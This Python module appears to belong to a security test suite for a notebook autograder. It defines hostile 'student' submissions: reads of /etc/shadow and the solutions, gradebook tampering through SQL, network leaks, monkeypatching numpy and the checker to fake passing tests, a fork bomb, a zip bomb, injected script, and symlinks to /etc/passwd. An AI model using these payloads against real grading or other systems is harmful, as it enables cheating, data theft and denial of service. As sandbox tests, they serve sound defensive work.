"""The hostile submissions of tests/security: one student per attack on the grading pipeline."""

import json
import os

from tinycourse import HONEST, POINTS, WRONG

__all__ = ["attacks", "plant", "EXPECTED", "REFUSED_NAMES"]

# Code that finds the re-check's box (its folder argument) from inside student code.
_BOX = "import sys\n_box = next((a for a in sys.argv if 'conv-course-recheck-' in a), None)\n"


def attacks(root, port):
    """{student: notebook code (or raw bytes)}: one hostile submission per attack, aimed at `root`
    (the course folder) and a listener on 127.0.0.1:`port` (the network attack)."""
    sol = f"{root}/solutions/tiny/tiny.ipynb"
    db = f"{root}/gradebook.db"
    alice = f"{root}/submitted/alice/tiny/tiny.ipynb"
    reader = f'''
import glob
for path in [{sol!r}, {db!r}, {alice!r}, "/etc/shadow"] + glob.glob({root!r} + "/**", recursive=True):
    try:
        print("READ", path, open(path, "rb").read()[:300])
    except OSError as err:
        print("DENIED", path, type(err).__name__)
'''
    writer = f'''
import os, shutil
for path in [{sol!r}, {db!r}, {alice!r}]:
    for act in (lambda p: open(p, "w").write("pwned"), os.remove, lambda p: shutil.rmtree(os.path.dirname(p))):
        try:
            act(path)
        except OSError as err:
            print("DENIED", path, type(err).__name__)
'''
    sql = f'''
import sqlite3
try:
    con = sqlite3.connect({db!r})
    con.execute("UPDATE grade SET manual_score = 100")
    con.execute("UPDATE grade SET auto_score = 0 WHERE id IN (SELECT grade.id FROM grade)")
    con.commit()
except Exception as err:
    print("DENIED", type(err).__name__, err)
'''
    network = f'''
import socket, urllib.request
for addr in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        socket.create_connection(addr, timeout=2).sendall(b"LEAK")
        print("CONNECTED", addr)
    except OSError as err:
        print("DENIED", addr, err)
'''
    return {
        # honest work, next to the attacks: 3 points and 0 points
        "alice": HONEST,
        "bob": WRONG,
        # reading and writing the course's files, and the gradebook through sqlite
        "reader": [HONEST, reader],
        "writer": [WRONG, writer],
        "sqlwriter": [WRONG, sql],
        "network": [HONEST, network],
        # fooling the tests in the kernel: the re-check must catch every one
        "patch_numpy": WRONG + "numpy_patched = True\nnp.allclose = lambda *a, **k: True\n",
        "shadow_np": WRONG + "class _Fake:\n    def __getattr__(self, name):\n        return lambda *a, **k: True\n"
                     "np = _Fake()\n",
        "patch_checker": [WRONG, "import tinycheck\ntinycheck.check_scale = lambda f: None\n"],
        "checker_file": [WRONG, "open('tinycheck.py', 'w').write('def check_scale(f):\\n    pass\\n')\n"],
        "patch_builtins": [WRONG, "import builtins, types\n_imp = builtins.__import__\n"
                                  "def _fake(name, *a, **k):\n"
                                  "    if name == 'tinycheck':\n"
                                  "        m = types.ModuleType(name)\n        m.check_scale = lambda f: None\n"
                                  "        return m\n    return _imp(name, *a, **k)\n"
                                  "builtins.__import__ = _fake\n"],
        "transformer": [WRONG, "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"],
        "excepthook": [WRONG, "import sys\nsys.excepthook = lambda *a: None\n"
                              "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"],
        # killing, hanging and exhausting the kernel
        "exit_in_test": "import os\ndef scale(x, k):\n    os._exit(0)\n",
        "infinite_loop": "def scale(x, k):\n    while True:\n        try:\n            pass\n"
                         "        except BaseException:\n            pass\n",
        "alloc_10gb": [HONEST, "import numpy\nbig = numpy.ones(10 * 2**30 // 8)\n"],
        "fork_bomb": [HONEST, "import os\nwhile True:\n    os.fork()\n"],
        "big_file": [HONEST, "with open('big.bin', 'wb') as f:\n    for _ in range(1024):\n"
                             "        f.write(bytes(1 << 20))\n"],
        "orphan": [HONEST, "import subprocess\nsubprocess.Popen(['sleep', '977'], start_new_session=True)\n"
                           "subprocess.Popen(['sh', '-c', '(sleep 978 &)'])\n"],
        "corrupt": b'{"cells": [ {"cell_type": "code", "source": "def scale(x, k): return x*k"',
        # the re-check's process: read expected answers from its bundle, or write its results and exit
        "bundle_reader": _BOX + """
import os
def scale(x, k):
    if _box is None:
        return np.asarray(x) + k
    z = np.load(os.path.join(_box, 'job.npz'))
    arrays = [z[f'arr_{i}'] for i in range(len(z.files))]
    for i, a in enumerate(arrays[:-1]):  # a result stored right after its argument would be returned
        if a.shape == np.shape(x) and np.array_equal(a, x) and arrays[i + 1].shape == a.shape:
            return arrays[i + 1]
    return np.asarray(x) + k
""",
        "bundle_writer": _BOX + """
import os
def scale(x, k):
    return np.asarray(x) + k
if _box:
    from conv_course.autograding import plaindata
    job, arrays = plaindata.read_bundle(_box, 'job')
    for i, cell in enumerate(job['cells']):
        if cell['kind'] == 'test' and cell['grade_id'] in job['calls']:
            out = []
            calls = [{'kind': 'return', 'value': plaindata.encode(plaindata.decode(c['args'], arrays)[0], out),
                      'after': {}} for c in job['calls'][cell['grade_id']]]
            plaindata.write_bundle(_box, f'cell-{i}', {'calls': calls, 'values': {}, 'names': {'scale': 'callable'}}, out)
    open(os.path.join(_box, 'progress'), 'w').write('done')
    os._exit(0)
""",
        "result_bomb": _BOX + """
import os, zipfile
def _bomb(path):
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as zf:
        with zf.open('arr_0.npy', 'w', force_zip64=True) as f:
            f.write(b"\\x93NUMPY\\x01\\x00v\\x00{'descr': '|u1', 'fortran_order': False, 'shape': (209715200,), }"
                    + b" " * 53 + b"\\n")
            chunk = bytes(1 << 20)
            for _ in range(200):
                f.write(chunk)
def scale(x, k):
    if _box and np.shape(x) == (3, 4):  # the last test: overwrite the results already written with bombs
        for name in os.listdir(_box):
            if name.startswith('cell-') and name.endswith('.npz') and os.path.getsize(os.path.join(_box, name)):
                _bomb(os.path.join(_box, name))
    return np.asarray(x) + k
""",
        # hidden test source, HTML/JS in pages, and output floods
        "leak_tests": [HONEST, "get_ipython().input_transformers_post.append(lambda lines: (print(''.join(lines)), lines)[1])\n"],
        "script": [HONEST, "from IPython.display import HTML, Javascript, display\n"
                           "display(HTML('<script>window.PWNED = 1</script><b>PWNED-HTML</b>'))\n"
                           "display(Javascript('window.PWNED = 2'))\n"],
        "spam_cells": [HONEST] + ["print('x' * 1_500_000)\n"] * 12,
        "display_updates": [HONEST, "h = display('start', display_id=True)\nfor i in range(300):\n"
                                    "    h.update('y' * 400_000 + str(i))\n"],
        # files in the submission folder (created by `plant`)
        "linker": WRONG,
        "nb_link": HONEST,
        "dir_link": HONEST,
        "fifo": HONEST,
        "many_files": HONEST,
        # tampered grading cells (made by `plant`): graded from the released notebook with their answers
        "tampered_points": HONEST,
        "test_to_solution": HONEST,
        "deleted_and_duplicated": HONEST,
    }


REFUSED_NAMES = ["bad\nname", os.fsdecode(b"bad\xffname")]


def _tests(cells):
    return [c for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _more_points(cells):
    _tests(cells)[0]["metadata"]["nbgrader"]["points"] = 100


def _test_to_solution(cells):
    test = _tests(cells)[1]
    test["metadata"]["nbgrader"].update(solution=True, locked=False)
    test["source"] = "pass"


def _delete_and_duplicate(cells):
    tests = _tests(cells)
    cells.remove(tests[0])
    cells.append(json.loads(json.dumps(tests[1])))


def plant(root):
    """Create the submissions that are made of links, special files and odd names."""
    sub = os.path.join(root, "submitted")
    linker = os.path.join(sub, "linker", "tiny")
    for name, target in [("sol.ipynb", f"{root}/solutions/tiny/tiny.ipynb"), ("gradebook.db", f"{root}/gradebook.db"),
                         ("alice", f"{sub}/alice/tiny"), ("passwd", "/etc/passwd"), ("up", root)]:
        os.symlink(target, os.path.join(linker, name))
    nb = os.path.join(sub, "nb_link", "tiny", "tiny.ipynb")
    os.remove(nb)
    os.symlink(f"{root}/solutions/tiny/tiny.ipynb", nb)
    folder = os.path.join(sub, "dir_link", "tiny")
    os.remove(os.path.join(folder, "tiny.ipynb"))
    os.rmdir(folder)
    os.symlink(f"{root}/solutions/tiny", folder)
    os.mkfifo(os.path.join(sub, "fifo", "tiny", "pipe"))
    many = os.path.join(sub, "many_files", "tiny", "junk")
    os.makedirs(many)
    for i in range(3000):
        open(os.path.join(many, f"{i}.txt"), "w").close()
    for student, tamper in (("tampered_points", _more_points), ("test_to_solution", _test_to_solution),
                            ("deleted_and_duplicated", _delete_and_duplicate)):
        path = os.path.join(sub, student, "tiny", "tiny.ipynb")
        with open(path) as f:
            nb = json.load(f)
        tamper(nb["cells"])
        with open(path, "w") as f:
            json.dump(nb, f)
    honest = os.path.join(sub, "alice", "tiny", "tiny.ipynb")
    for name in REFUSED_NAMES:
        folder = os.path.join(os.fsencode(sub), os.fsencode(name), b"tiny")
        os.makedirs(folder)
        with open(honest, "rb") as src, open(os.path.join(folder, b"tiny.ipynb"), "wb") as dst:
            dst.write(src.read())


# what the honest part of each submission earns
EXPECTED = {"alice": POINTS, "reader": POINTS, "network": POINTS, "alloc_10gb": POINTS, "big_file": POINTS,
            "orphan": POINTS, "leak_tests": POINTS, "script": POINTS, "spam_cells": POINTS,
            "display_updates": POINTS, "fifo": POINTS, "many_files": POINTS, "fork_bomb": POINTS,
            "tampered_points": POINTS, "test_to_solution": POINTS, "deleted_and_duplicated": POINTS}
